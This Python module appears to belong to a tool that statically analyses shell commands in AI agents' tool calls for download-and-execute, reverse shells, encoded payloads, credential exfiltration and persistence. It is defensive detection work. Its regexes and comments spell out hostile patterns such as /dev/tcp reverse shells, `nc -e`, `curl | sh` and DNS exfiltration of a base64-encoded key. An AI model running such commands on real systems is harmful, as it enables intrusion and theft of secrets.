"""Shell analysis of a command line: what would it do if the agent ran it?

Detects download-and-execute (`curl … | sh`, `bash -c "$(curl …)"`, `bash <(curl …)`, download then
run), decode-and-execute (base64/xxd/gzip into a shell, `exec(b64decode(…))`), reverse shells,
credential reads and their upload (credential exfiltration), environment dumps, persistence (cron,
systemd units, ssh authorized_keys, shell rc files given a payload), package installs (with installs
from a URL or a custom index) and every host named, with what the command would do with it.

Text that is only *written* (a heredoc into a file, `echo … > file`) is analysed too, with context
'written': a URL in a script being saved is not a fetch and a `curl | sh` in a Dockerfile being
written runs nothing, unless the same command then runs that file. Nothing here executes anything.
"""

from __future__ import annotations

import base64
import binascii
import re
from functools import lru_cache

from collector.toolcalls import code as code_analysis
from collector.toolcalls import hosts as hostmod
from collector.toolcalls import installs as installmod
from collector.toolcalls import paths
from collector.toolcalls.model import (
    BASE64_EXEC,
    COMMAND,
    CREDENTIAL_EXFIL,
    CREDENTIAL_READ,
    DOWNLOAD_EXEC,
    ENCODED,
    ENV_DUMP,
    ENV_FILE_READ,
    PERSISTENCE,
    REVERSE_SHELL,
    RUNS_FILE,
    SECRET_READS,
    SECRET_SENT,
    WRITTEN,
    Analysis,
    HostRef,
    Indicator,
)
from collector.toolcalls.tokens import HEREDOC_PREFIX, Script, Simple, parse

MAX_DEPTH = 4
MAX_TEXT = 64_000

DOWNLOADERS = hostmod.DOWNLOADERS
SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "csh", "tcsh", "mksh", "yash"}
PYTHONS = re.compile(r"^(?:python[\d.]*|pypy[\d.]*|ipython[\d.]*)$")
OTHER_INTERPRETERS = {"perl", "ruby", "node", "nodejs", "php", "pwsh", "powershell", "lua", "osascript", "deno", "bun",
                      "iex", "invoke-expression", "tclsh", "r", "rscript", "julia", "groovy", "jshell"}
READERS = {"cat", "less", "more", "head", "tail", "base64", "base32", "xxd", "od", "hexdump", "strings", "cp", "scp",
           "rsync", "tar", "zip", "7z", "gzip", "bzip2", "xz", "zstd", "openssl", "gpg", "grep", "egrep", "fgrep", "rg",
           "awk", "gawk", "sed", "jq", "yq", "nl", "tac", "bat", "batcat", "sort", "uniq", "cut", "tr", "dd", "curl",
           "wget", "nc", "ncat", "socat", "diff", "sqlite3", "mv", "install", "type", "view", "xclip", "pbcopy",
           "python", "python3", "node", "perl", "ruby", "php", "http", "xh", "gh", "aws", "gsutil", "rclone"}
NULL_TARGETS = re.compile(r"^/dev/(?:null|stdout|stderr|tty|fd/\d+)$")
_SECRET_VAR = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
SECRET_NAME = re.compile(r"(?:KEY|TOKEN|SECRET|PASSW|CRED|AUTH|PRIVATE|SESSION|COOKIE|MNEMONIC|SEED)", re.I)

_SUBST = re.compile(r"\$\(((?:[^()]|\((?:[^()]|\([^()]*\))*\))*)\)|`([^`]*)`|<\(((?:[^()]|\([^()]*\))*)\)")
_B64_BLOB = re.compile(r"(?<![A-Za-z0-9+/=])[A-Za-z0-9+/]{24,}={0,2}(?![A-Za-z0-9+/=])")
_REVERSE_SHELL = [
    re.compile(r"/dev/(?:tcp|udp)/[^\s/]+/\d+"),
    re.compile(r"\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^|;&\n]*\s-(?:[a-z]*e|c)\s"),
    re.compile(r"\bsocat\b[^\n]*\bexec:", re.I),
    re.compile(r"\bmkfifo\b[^\n]*\b(?:nc|ncat|netcat|telnet|openssl)\b"),
    re.compile(r"\b(?:ba)?sh\s+-i\s*[<>]&"),
    re.compile(r"\btelnet\b[^|\n]*\|\s*/bin/(?:ba)?sh"),
    re.compile(r"\bopenssl\s+s_client\b[^\n]*\|\s*/bin/(?:ba)?sh"),
]
# PowerShell: `iex (iwr URL)`, `Invoke-Expression (New-Object Net.WebClient).DownloadString(URL)`
_PWSH_DOWNLOAD_EXEC = re.compile(
    r"\b(?:iex|invoke-expression)\b[^;|\n]*\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|"
    r"net\.webclient|curl|wget)\b", re.I)
_ENV_PROC = re.compile(r"/proc/(?:self|\d+|\*|\$\$|\$\w+)/environ")
# Text without any of these cannot carry an indicator, an install or a host: the parser is skipped.
_INTERESTING = re.compile(
    r"curl|wget|fetch|aria2c|://|base(?:64|32|nc)|xxd|openssl|/dev/|\bnc\b|ncat|netcat|socat|mkfifo|telnet|"
    r"pip|npm|pnpm|yarn|\bbunx?\b|npx|cargo|\bgo\s|\buvx?\s|poetry|pdm|rye|\beval\b|\bsource\b|\bexec\b|"
    r"python|pypy|perl|ruby|node|php|pwsh|powershell|\b(?:ba|z|da|k|c|tc|mk)?sh\b|\benv\b|printenv|export|\bset\b|"
    r"environ|declare|@|ssh|scp|rsync|gunzip|zcat|gzip|uudecode|\brev\b|\biex\b|invoke-|lwp|\bhttps?\b|\bxh\b|"
    r"\$\(|`|<\(|\bdig\b|nslookup|\bhost\b|ping|\.\s|\bdocker\b|podman|\bgit\b|cron|\bat\b|systemd|authorized_keys|autostart|init\.d|"
    r"rc\b|profile|ld\.so|LaunchAgents|sudoers|\.env|\$\w*(?:KEY|TOKEN|SECRET)|GOPROXY|INDEX_URL|registry|<<|"
    r"\bgh\b|\baws\b|gsutil|rclone|\bs3\b|\$\{?\w",
    re.I,
)


@lru_cache(maxsize=32768)
def analyze_command(cmd: str, depth: int = 0, context: str = COMMAND) -> tuple[Analysis, tuple[str, ...]]:
    """One shell command line (or script) -> (analysis, uploads: commands that send data off the host).
    Cached (agents repeat commands); callers must not mutate the result."""
    out = Analysis()
    uploads: list[str] = []
    if not cmd or depth > MAX_DEPTH:
        return out, ()
    cmd = cmd[:MAX_TEXT]
    if not _INTERESTING.search(cmd) and not paths.CREDENTIAL.search(cmd) and not _B64_BLOB.search(cmd):
        return out, ()
    script = parse(cmd)
    if script is None:  # unbalanced quotes: patterns on the raw text
        _regex_fallback(cmd, context, out)
        out.hosts += hostmod.with_intent(hostmod.urls_in(cmd), "arg" if context == COMMAND else _text_intent(context))
        return out, ()
    runs = _Walker(script, depth, context, out, uploads)
    runs.walk()
    _substitutions(cmd, depth, context, out, uploads)
    for rx in _REVERSE_SHELL:
        m = rx.search(runs.exec_text)
        if m:
            out.indicators.append(Indicator(REVERSE_SHELL, _snip(runs.exec_text, m), _first_host(runs.exec_text), context))
            break
    m = _PWSH_DOWNLOAD_EXEC.search(runs.exec_text)
    if m:
        out.indicators.append(Indicator(DOWNLOAD_EXEC, _snip(runs.exec_text, m), _first_host(runs.exec_text), context))
    m = _ENV_PROC.search(runs.exec_text)
    if m:
        out.indicators.append(Indicator(ENV_DUMP, _snip(runs.exec_text, m), None, context))
    executes_decoded = any(i.kind == BASE64_EXEC and i.context == context for i in out.indicators)
    _encoded_blobs(cmd, depth, context if executes_decoded else ENCODED, out, uploads)
    if depth == 0:
        exfiltrate(out, uploads, context)
    return out.dedup(), tuple(dict.fromkeys(uploads))


def analyze_write(targets: list[str], text: str | None, depth: int = 0, context: str = COMMAND) -> tuple[Analysis, tuple[str, ...]]:
    """Text a tool call writes to `targets` (a heredoc, `echo > f`, a write_file tool): its content is
    analysed with context 'written'; the write itself persists a foothold when the target is a cron,
    systemd, authorized_keys or ld.so.preload path, or a shell rc file given a payload."""
    out = Analysis()
    lang = _language(targets[0] if targets else "", text or "")
    if not text:
        inner, ups = Analysis(), ()
    elif lang == "sh":
        inner, ups = analyze_command(text, depth, WRITTEN)
    else:  # a Python/JS/Perl/Ruby/PHP file: its code, as it would run
        inner, ups = code_analysis.analyze_code(lang, text, WRITTEN, lambda t: analyze_command(t, depth + 1, WRITTEN))
    inner = Analysis(list(inner.indicators), list(inner.installs), list(inner.hosts))
    exfiltrate(inner, list(ups), WRITTEN)  # a script that reads a secret and sends it, once run
    out.add(inner)
    if targets:  # where it was written: a later call that runs the file makes it run (ac1-written-then-run)
        out.indicators = [Indicator(i.kind, i.detail, i.host, i.context, i.url, targets[0]) if i.context == WRITTEN
                          and i.path is None else i for i in out.indicators]
    for t in targets:
        if paths.persists(t):
            out.indicators.append(Indicator(PERSISTENCE, f"writes {t}: {(text or '')[:200]}"[:300],
                                            _first_host(text or ""), context))
        elif paths.shell_rc(t) and text and (paths.RC_PAYLOAD.search(text) or any(
                i.kind in (DOWNLOAD_EXEC, BASE64_EXEC, REVERSE_SHELL) for i in inner.indicators)):
            out.indicators.append(Indicator(PERSISTENCE, f"appends to {t}: {text[:200]}"[:300], _first_host(text), context))
    return out, ups


_LANG_EXT = {".py": "python", ".js": "node", ".mjs": "node", ".cjs": "node", ".ts": "node", ".pl": "perl",
             ".rb": "ruby", ".php": "php"}


def _language(path: str, text: str) -> str:
    """How a written file would run: by its shebang, else its extension; shell otherwise."""
    first = text.split("\n", 1)[0]
    if first.startswith("#!"):
        for lang, marks in (("python", ("python",)), ("node", ("node", "deno", "bun")), ("perl", ("perl",)),
                            ("ruby", ("ruby",)), ("php", ("php",))):
            if any(m in first for m in marks):
                return lang
        return "sh"
    ext = "." + path.rsplit(".", 1)[-1].lower() if "." in path.rsplit("/", 1)[-1] else ""
    return _LANG_EXT.get(ext, "sh")


def exfiltrate(out: Analysis, uploads: list[str] | tuple[str, ...], context: str = COMMAND) -> None:
    """A secret read and a network send in one tool call: credential exfiltration."""
    reads = [i for i in out.indicators if i.kind in SECRET_READS and i.context == context]
    if reads and uploads and not any(i.kind == CREDENTIAL_EXFIL for i in out.indicators):
        host = _first_host(" ".join(uploads))
        out.indicators.append(Indicator(
            CREDENTIAL_EXFIL, f"{reads[0].kind} {reads[0].detail[:80]} -> {uploads[0][:200]}"[:300], host, context))


class _Walker:
    """One pass over a parsed script: each pipeline, each simple command in it, its role."""

    def __init__(self, script: Script, depth: int, context: str, out: Analysis, uploads: list[str]):
        self.s = script
        self.depth = depth
        self.context = context
        self.out = out
        self.uploads = uploads
        self.exec_parts: list[str] = []
        self.downloaded: dict[str, str | None] = {}  # file -> host it came from
        self.decoded: set[str] = set()  # files a decoder wrote
        self.written: dict[str, tuple[Analysis, tuple[str, ...]]] = {}  # file -> analysis of what was written

    @property
    def exec_text(self) -> str:
        return " ; ".join(self.exec_parts)

    def walk(self) -> None:
        for pipe in self.s.pipelines:
            self.pipeline(pipe)

    # -- a pipeline ------------------------------------------------------------------------------
    def pipeline(self, pipe: list[Simple]) -> None:
        parts: list[str] = []
        upstream: str | None = None  # text flowing into the next command (echo args, heredoc body)
        downloaded = decoded = False
        host = None
        detail: list[str] = []
        env_dump_at: int | None = None
        for i, c in enumerate(pipe):
            body = self._stdin_text(c)
            if i > 0 and body is None:
                body = upstream
            detail.append(c.text)
            written_to = self._targets(c)
            if c.head == "tee":
                written_to += [a for a in c.args if not a.startswith("-")]
            if written_to and body is not None and c.head in ("cat", "tee", "dd", "sponge", "") or (
                    c.head in ("echo", "printf") and written_to):
                text = body if c.head not in ("echo", "printf") else _echo_text(c)
                self.write(text, written_to, c)
                upstream = None
                continue
            if c.head in ("echo", "printf") and not written_to:
                upstream = _echo_text(c)
                parts.append(c.head)
                self._env_var_read(c)
                continue
            parts.append(c.raw)
            nxt = pipe[i + 1] if i + 1 < len(pipe) else None
            self.command(c, body, stdin_piped=i > 0, filtered=nxt is not None and _filters_out_secrets(nxt))
            if _is_downloader(c):
                downloaded = True
                host = host or _first_host(" ".join(c.args))
            elif _is_decoder(c):
                decoded = True
            elif _runs_stdin(c) and i > 0 and (downloaded or decoded):
                text = " | ".join(detail)[:300]
                if downloaded:
                    self.out.indicators.append(Indicator(DOWNLOAD_EXEC, text, host, self.context))
                if decoded:
                    self.out.indicators.append(Indicator(BASE64_EXEC, text, host, self.context))
            elif _runs_stdin(c) and i > 0 and upstream is not None:  # `echo 'curl x | sh' | bash`
                self._run_text(c, upstream)
            if c.head in ("env", "printenv") and not [a for a in c.args if not a.startswith("-")] or (
                    c.head == "export" and c.args == ["-p"]) or (c.head == "set" and not c.args) or (
                    c.head == "declare" and c.args in (["-x"], ["-p"], ["-px"])):
                env_dump_at = i
            upstream = None
        if decoded and not downloaded and pipe:
            self.decoded.update(self._targets(pipe[-1]))  # `echo … | base64 -d > /tmp/x.sh`, then `sh /tmp/x.sh`
        if env_dump_at is not None:
            nxt = pipe[env_dump_at + 1] if env_dump_at + 1 < len(pipe) else None
            pattern = " ".join(a for a in nxt.args if not a.startswith("-")) if nxt is not None and nxt.head in (
                "grep", "egrep", "rg", "fgrep") else None
            if pattern is None or SECRET_NAME.search(pattern):
                self.out.indicators.append(Indicator(ENV_DUMP, " | ".join(detail)[:200], None, self.context))
        self.exec_parts.append(" | ".join(parts))

    # -- one simple command ----------------------------------------------------------------------
    def command(self, c: Simple, stdin_text: str | None, stdin_piped: bool, filtered: bool = False) -> None:
        out, ctx, text = self.out, self.context, c.text
        inst = installmod.installs(c.head, c.args, c.assignments, text)
        out.installs += inst.installs
        out.indicators += [Indicator(i.kind, i.detail, i.host, ctx, i.url) for i in inst.indicators]
        out.hosts += [_in_context(h, ctx) for h in inst.hosts]
        if not inst.hosts:
            out.hosts += [_in_context(h, ctx) for h in hostmod.command_hosts(c.head, c.args)]
        for a in c.assignments:
            out.hosts += [_in_context(h, ctx) for h in hostmod.with_intent(hostmod.urls_in(a), "arg")]
        for t in [*(t for t, _ in c.stdout), c.stdin or ""]:
            if t.startswith("/dev/"):  # `>& /dev/tcp/H/P`, `< /dev/tcp/H/P`
                out.hosts += [_in_context(h, ctx) for h in hostmod.urls_in(t)]
        self._inline(c)
        if stdin_text is not None and not stdin_piped and _runs_stdin(c):
            self._run_text(c, stdin_text)  # `bash <<EOF`, `python3 - <<'PY'`, `sh <<< "..."`
        if c.head in READERS and not filtered and not _filters_out_secrets(c):
            self._reads_secret(c)
        self._env_var_read(c)
        self._persistence(c, stdin_text)
        self._upload(c)
        self._download_then_run(c)

    def write(self, text: str | None, targets: list[str], c: Simple) -> None:
        """Text written to files: analysed as written content; persistence by target."""
        targets = [t for t in targets if not NULL_TARGETS.match(t)]
        if not targets:
            return
        inner, ups = analyze_write(targets, text, self.depth + 1, self.context)
        self.out.add(inner)
        for t in targets:
            self.written[t] = analyze_command(text, self.depth + 1, WRITTEN) if text else (Analysis(), ())
        self.exec_parts.append(f"{c.head} > {' '.join(targets)}")

    def _run_text(self, c: Simple, text: str) -> None:
        if c.head in SHELLS or c.head in ("eval", "source", ".", "pwsh", "powershell", "iex", "invoke-expression"):
            a, ups = analyze_command(text, self.depth + 1, self.context)
        else:
            a, ups = code_analysis.analyze_code(c.head, text, self.context, self._shell)
        self.out.add(a)
        self.uploads += ups

    def _shell(self, text: str) -> tuple[Analysis, tuple[str, ...]]:
        return analyze_command(text, self.depth + 1, self.context)

    def _inline(self, c: Simple) -> None:
        """`sh -c STRING`, `eval STRING`, `python -c CODE`, `node -e CODE`, ... analysed recursively."""
        code = None
        for i, a in enumerate(c.args):
            is_flag = a in ("-c", "-e", "-r", "--eval", "-Command", "-command", "-E", "--command") or (
                c.head in SHELLS and re.match(r"^-[a-zA-Z]*c[a-zA-Z]*$", a) is not None)
            if is_flag:
                if i + 1 < len(c.args):
                    code = c.args[i + 1]
                break
        if c.head in ("eval", "source", ".") and c.args:
            code = " ".join(c.args)
            if c.head != "eval":
                path = c.args[0]
                if path in self.written:
                    self._promote(path)
                return
        if code is None:
            return
        if c.head in SHELLS or c.head in ("eval", "su", "pwsh", "powershell"):
            a, ups = analyze_command(code, self.depth + 1, self.context)
        elif PYTHONS.match(c.head) or c.head in OTHER_INTERPRETERS:
            if c.head in ("perl", "ruby"):  # `perl -MLWP::Simple -e 'eval get(...)'`: modules are part of it
                code = " ".join(c.args)
            a, ups = code_analysis.analyze_code(c.head, code, self.context, self._shell)
        else:
            return
        self.out.add(a)
        self.uploads += ups

    def _reads_secret(self, c: Simple) -> bool:
        """A reader command (cat, cp, grep, tar, curl -d @file, ...) with a credential store among its inputs."""
        inputs = list(c.args)
        if c.head in ("cp", "mv", "install", "scp", "rsync") and len(inputs) > 1:
            inputs = [a for a in inputs[:-1] if not a.startswith("-")]
        if c.stdin and not c.stdin.startswith(HEREDOC_PREFIX):
            inputs.append(c.stdin)
        if c.head in ("sed",) and any(a.startswith("-i") for a in c.args):
            return False
        joined = " ".join(inputs)
        m = paths.CREDENTIAL.search(joined)
        if m:
            self.out.indicators.append(Indicator(CREDENTIAL_READ, m.group(0)[:200], None, self.context))
            return True
        if paths.ENV_FILE.search(" " + joined):
            self.out.indicators.append(Indicator(ENV_FILE_READ, _snip_text(c.text, 200), None, self.context))
            return True
        return False

    def _env_var_read(self, c: Simple) -> None:
        """`echo $OPENAI_API_KEY`, `printenv AWS_SECRET_ACCESS_KEY`: one secret variable printed; a
        secret variable in a request's URL or body (`curl "https://x/?k=$OPENAI_API_KEY"`) is sent.
        In a header (`-H "Authorization: Bearer $OPENAI_API_KEY"`) it is how APIs authenticate: not
        counted (the host it goes to is the analyzer's to judge)."""
        if c.head in DOWNLOADERS or c.head in ("nc", "ncat", "netcat", "socat", "telnet", "dig", "nslookup", "host"):
            sent = []
            skip = False
            for a in c.args:
                if skip:
                    skip = False
                    continue
                if a in ("-H", "--header", "-u", "--user", "--oauth2-bearer"):
                    skip = True
                    continue
                sent += [v for v in _SECRET_VAR.findall(a) if SECRET_NAME.search(v)]
            if sent:
                dest = hostmod.command_hosts(c.head, c.args)
                self.out.indicators.append(Indicator(SECRET_SENT, f"${sent[0]} in {c.text}"[:300],
                                                     dest[0].host if dest else None, self.context))
            return
        if c.head in ("echo", "printf", "printenv"):
            names = [a for a in c.args if not a.startswith("-")]
            secret = [n for n in names if SECRET_NAME.search(n) and (c.head == "printenv" or "$" in n)]
            if secret:
                self.out.indicators.append(Indicator(ENV_DUMP, f"{c.head} {' '.join(secret)}"[:200], None, self.context))

    def _persistence(self, c: Simple, stdin_text: str | None = None) -> None:
        out, ctx = self.out, self.context
        for t in self._targets(c):  # `curl … >> ~/.ssh/authorized_keys`, `curl … >> ~/.bashrc`
            if paths.persists(t) or paths.shell_rc(t) and (c.head in DOWNLOADERS or _is_decoder(c)):
                out.indicators.append(Indicator(PERSISTENCE, _snip_text(c.text + " > " + t, 300), _first_host(c.text), ctx))
        if c.head == "crontab":
            rest = [a for a in c.args if a not in ("-u",)]
            if not any(a in ("-l", "-r", "-e", "-i") for a in rest) and (rest or c.stdin or stdin_text is not None):
                entry = stdin_text or ""
                out.indicators.append(Indicator(PERSISTENCE, f"{c.text} <- {entry}"[:300] if entry else c.text[:300],
                                                _first_host(entry), ctx))
                if entry:
                    out.hosts += [HostRef(h.host, h.port, h.url, "arg")  # runs later, from cron
                                  for h in analyze_command(entry, self.depth + 1, WRITTEN)[0].hosts]
        elif c.head in ("at", "batch") and (c.stdin or c.herestring or "-f" in c.args or stdin_text is not None):
            out.indicators.append(Indicator(PERSISTENCE, f"{c.text} <- {stdin_text or ''}"[:300], _first_host(stdin_text or ""), ctx))
        elif c.head in ("cp", "mv", "install", "ln", "rsync") and len(c.args) > 1:
            dest = c.args[-1]
            if paths.persists(dest) or paths.persists(dest.rstrip("/") + "/x.service") and "systemd" in dest:
                out.indicators.append(Indicator(PERSISTENCE, _snip_text(c.text, 300), None, ctx))
        elif c.head == "sed" and any(a.startswith("-i") for a in c.args):
            files = [a for a in c.args[1:] if not a.startswith("-")]
            expr = " ".join(files[:-1]) if len(files) > 1 else ""
            if files and (paths.persists(files[-1]) or paths.shell_rc(files[-1]) and paths.RC_PAYLOAD.search(expr)):
                out.indicators.append(Indicator(PERSISTENCE, _snip_text(c.text, 300), _first_host(expr), ctx))
        elif c.head == "systemctl" and c.args[:1] == ["link"]:
            out.indicators.append(Indicator(PERSISTENCE, _snip_text(c.text, 300), None, ctx))

    def _upload(self, c: Simple) -> None:
        """Commands that send data to another host (the second half of credential exfiltration)."""
        a, text = c.args, c.text
        if c.head == "curl" and (any(x in ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "-F", "--form",
                                          "-T", "--upload-file", "--json", "--data-ascii") or x.startswith(("--data", "-d@", "-F")) for x in a)
                                 or "$(" in text or "`" in text):
            self.uploads.append(text[:300])
        elif c.head == "wget" and any(x.startswith(("--post-data", "--post-file", "--body-data", "--body-file")) for x in a):
            self.uploads.append(text[:300])
        elif c.head in ("nc", "ncat", "netcat", "socat", "telnet") and hostmod.command_hosts(c.head, a):
            self.uploads.append(text[:300])
        elif c.head == "openssl" and "s_client" in a:
            self.uploads.append(text[:300])
        elif c.head in ("scp", "rsync", "sftp") and a and re.match(r"^(?:[\w.\-]+@)?[\w.\-]+:", a[-1]):
            self.uploads.append(text[:300])
        elif c.head in ("dig", "nslookup", "host", "ping", "drill") and ("$(" in text or "`" in text):
            self.uploads.append(text[:300])
        elif c.head in ("http", "https", "xh") and any(x.upper() in ("POST", "PUT", "PATCH") or "=" in x or x.startswith("@") for x in a):
            self.uploads.append(text[:300])
        elif (c.head == "gh" and a[:2] == ["gist", "create"]) or (c.head == "aws" and a[:2] in (["s3", "cp"], ["s3", "sync"])
                                                                   and any(x.startswith("s3://") for x in a[2:][1:])) or (
                c.head in ("gsutil", "rclone") and a[:1] in (["cp"], ["copy"], ["sync"])):
            self.uploads.append(text[:300])

    def _download_then_run(self, c: Simple) -> None:
        """`curl -o /tmp/x URL && chmod +x /tmp/x && /tmp/x` (or `sh /tmp/x`); a written script run."""
        if c.head in DOWNLOADERS:
            args = c.args
            for i, a in enumerate(args):
                short_o = re.fullmatch(r"-[a-zA-Z]*o", a) is not None or (c.head == "wget" and re.fullmatch(r"-[a-zA-Z]*O", a) is not None)
                if (a in ("--output", "--output-document") or short_o) and i + 1 < len(args) and not args[i + 1].startswith("-"):
                    self.downloaded[args[i + 1]] = _first_host(" ".join(args))
                elif a.startswith("--output-document=") or a.startswith("-O") and len(a) > 2 and c.head == "wget":
                    self.downloaded[a.split("=", 1)[-1] if "=" in a else a[2:]] = _first_host(" ".join(args))
            for t, _append in c.stdout:
                self.downloaded[t] = _first_host(" ".join(args))
            if c.head == "wget" and not any(x.startswith(("-O", "--output-document")) for x in args) or (
                    c.head == "curl" and any(x in ("-O", "--remote-name") or re.match(r"^-[a-zA-Z]*O[a-zA-Z]*$", x) for x in args)):
                for u in hostmod.URL.findall(" ".join(args)):
                    name = u.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1]
                    if name:
                        self.downloaded[name] = _first_host(u)
            return
        if c.head in ("chmod", "ls", "file", "sha256sum", "shasum", "md5sum", "tar", "unzip", "cat", "head", "less", "rm"):
            return
        if c.head in SHELLS and any(re.fullmatch(r"-[a-zA-Z]*n[a-zA-Z]*", a) for a in c.args):
            return  # `bash -n script.sh` checks syntax: nothing runs
        word = next((a for a in c.argv if a.rsplit("/", 1)[-1].lower() == c.head), "")  # the command as written
        targets = [word] if word else []
        interp = c.head in SHELLS or PYTHONS.match(c.head) is not None or c.head in OTHER_INTERPRETERS or c.head in ("source", ".")
        inline = any(a in ("-c", "-e", "-m", "-r", "--eval") or (c.head in SHELLS and re.fullmatch(r"-[a-zA-Z]*c[a-zA-Z]*", a))
                     for a in c.args)
        if interp and c.args and not inline:
            targets.append(next((a for a in c.args if not a.startswith("-")), ""))
        for t in [x for x in targets[1:] if x] + [x for x in targets[:1] if "/" in x]:
            self.out.indicators.append(Indicator(RUNS_FILE, t[:300], None, self.context))
        for t in targets:
            for f, host in self.downloaded.items():
                if _same_file(t, f):
                    self.out.indicators.append(Indicator(DOWNLOAD_EXEC, c.text[:300], host, self.context))
                    return
            for f in self.decoded:
                if _same_file(t, f):
                    self.out.indicators.append(Indicator(BASE64_EXEC, c.text[:300], None, self.context))
                    return
            for f in list(self.written):
                if _same_file(t, f):
                    self._promote(f)
                    return

    def _promote(self, path: str) -> None:
        """A file this command wrote is then run: what was written now counts as run."""
        inner, ups = self.written.pop(path)
        for i in inner.indicators:
            if i.context == WRITTEN:
                self.out.indicators.append(Indicator(i.kind, i.detail, i.host, self.context, i.url))
        for h in inner.hosts:
            if h.intent == WRITTEN:
                self.out.hosts.append(HostRef(h.host, h.port, h.url, "arg"))
        self.uploads += ups

    # -- helpers -------------------------------------------------------------------------------
    def _stdin_text(self, c: Simple) -> str | None:
        if c.stdin and c.stdin.startswith(HEREDOC_PREFIX):
            return self.s.heredocs.get(c.stdin, "")
        if c.herestring is not None:
            return c.herestring
        return None

    def _targets(self, c: Simple) -> list[str]:
        return [t for t, _ in c.stdout if not NULL_TARGETS.match(t)]


def _filters_out_secrets(c: Simple) -> bool:
    """`grep current-context` (a pattern naming no secret) keeps only lines that hold none:
    `cat ~/.kube/config | grep current-context` reads no credential out."""
    if c.head not in ("grep", "egrep", "fgrep", "rg"):
        return False
    pattern = next((a for a in c.args if not a.startswith("-")), None)
    return pattern is not None and not SECRET_NAME.search(pattern) and "." not in pattern.strip("^$")


def _is_downloader(c: Simple) -> bool:
    if c.head in DOWNLOADERS:
        return True
    joined = " ".join(c.args)
    if PYTHONS.match(c.head) and "-c" in c.args:
        return bool(code_analysis.NET.search(joined))
    if c.head in ("nc", "ncat", "netcat", "telnet", "openssl") and any(hostmod.HOSTLIKE.match(a.lower()) for a in c.args):
        return c.head != "openssl" or "s_client" in c.args
    if c.head == "cat" and c.stdin and c.stdin.startswith("/dev/tcp/"):
        return True
    return False


def _is_decoder(c: Simple) -> bool:
    joined = " " + " ".join(c.args)
    head = c.head
    if head in ("base64", "base32", "basenc") and re.search(r"\s-(?:d|D|-decode)\b|\s-[a-zA-Z]*d[a-zA-Z]*\b", joined):
        return True
    if head == "xxd" and re.search(r"\s-[a-z]*r", joined):
        return True
    if head == "openssl" and re.search(r"\b(?:base64|enc)\b", joined) and re.search(r"\s-(?:d|a\s+-d)\b", joined):
        return True
    if head in ("gunzip", "zcat", "uudecode", "rev", "bzcat", "bunzip2", "xzcat", "unxz", "zstdcat", "unzstd"):
        return True
    if head in ("gzip", "bzip2", "xz", "zstd", "brotli") and re.search(r"\s-[a-zA-Z]*d", joined):
        return True
    if (PYTHONS.match(head) or head in ("perl", "ruby", "node")) and ("-c" in c.args or "-e" in c.args) and code_analysis.B64.search(joined):
        return True
    if head == "tr" and re.search(r"a-zA-Z\S*\s+n-za-mN-ZA-M|A-Za-z\S*\s+N-ZA-Mn-za-m", joined):  # rot13
        return True
    return False


def _runs_stdin(c: Simple) -> bool:
    """An interpreter that would run what it reads on stdin (no script file argument)."""
    head, args = c.head, c.args
    if head in ("iex", "invoke-expression"):
        return True
    if not (head in SHELLS or PYTHONS.match(head) or head in OTHER_INTERPRETERS):
        return False
    rest = list(args)
    if not rest:
        return True
    if rest[0] in ("-", "-s", "/dev/stdin") or rest[0].startswith("-s"):
        return True
    if "-" in rest and not any(a in ("-c", "-e", "-m") for a in rest):
        return True  # `python3 - arg`, `bash -x -`
    flags_only = all(a.startswith("-") for a in rest)
    return flags_only and not any(a in ("-c", "-e", "-m", "--version", "-V", "--help", "-h") or (
        head in SHELLS and re.match(r"^-[a-zA-Z]*c[a-zA-Z]*$", a)) for a in rest)


def _echo_text(c: Simple) -> str:
    args = list(c.args)
    while args and re.match(r"^-[neE]+$", args[0]):
        args.pop(0)
    if c.head == "printf" and args:
        fmt = args[0]
        return (fmt.replace("%s", " ".join(args[1:])) if "%s" in fmt else " ".join(args)).replace("\\n", "\n")
    return " ".join(args).replace("\\n", "\n") if "-e" in c.args else " ".join(args)


def _substitutions(cmd: str, depth: int, context: str, out: Analysis, uploads: list[str]) -> None:
    """`bash -c "$(curl …)"`, `eval "$(wget -qO- …)"`, `bash <(curl …)`, `. <(curl …)`; the inner
    commands' own hosts and indicators are analysed too."""
    for m in _SUBST.finditer(cmd):
        inner = next(g for g in m.groups() if g is not None)
        sub, sub_ups = analyze_command(inner, depth + 1, context)
        out.hosts += sub.hosts
        out.installs += sub.installs
        out.indicators += [i for i in sub.indicators if i.kind not in SECRET_READS]
        uploads += sub_ups
        secret = [i for i in sub.indicators if i.kind in SECRET_READS]
        out.indicators += secret
        script = parse(inner)
        cmds = script.commands() if script is not None else []
        before = cmd[: m.start()].rstrip(" \"'")
        outer = parse(re.split(r"[;&|\n]", before)[-1].strip() + " x")
        outer_head = outer.commands()[0].head if outer is not None and outer.commands() else ""
        if outer_head in hostmod.DOWNLOADERS or outer_head in ("dig", "nslookup", "host", "ping", "drill", "nc", "ncat"):
            uploads.append(_snip(cmd, m))  # `dig $(cat key | base64).x.example`: the output goes out in the request
        has_dl = any(_is_downloader(c) for c in cmds)
        has_dec = any(_is_decoder(c) for c in cmds)
        if not (has_dl or has_dec):
            continue
        ctx = re.split(r"[;&|\n]", before)[-1].strip()
        runs = False
        if ctx:
            words = parse(ctx + " x")
            first = words.commands()[0] if words is not None and words.commands() else None
            if first is not None:
                runs = first.head in SHELLS or PYTHONS.match(first.head) is not None or first.head in OTHER_INTERPRETERS or (
                    first.head in ("eval", "source", ".", "exec"))
                if first.head in SHELLS and m.group(0).startswith("$(") and not any(
                        re.match(r"^-[a-zA-Z]*c", a) for a in first.args) and first.args != ["x"]:
                    runs = False  # `bash script.sh "$(curl …)"`: an argument, not a script
        if runs:
            host = _first_host(inner)
            if has_dl:
                out.indicators.append(Indicator(DOWNLOAD_EXEC, _snip(cmd, m), host, context))
            if has_dec:
                out.indicators.append(Indicator(BASE64_EXEC, _snip(cmd, m), host, context))


def _regex_fallback(cmd: str, context: str, out: Analysis) -> None:
    if re.search(r"\b(?:curl|wget)\b[^|]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b", cmd):
        out.indicators.append(Indicator(DOWNLOAD_EXEC, cmd[:300], _first_host(cmd), context))
    if re.search(r"base64\s+(?:-d|--decode|-D)[^|]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b", cmd):
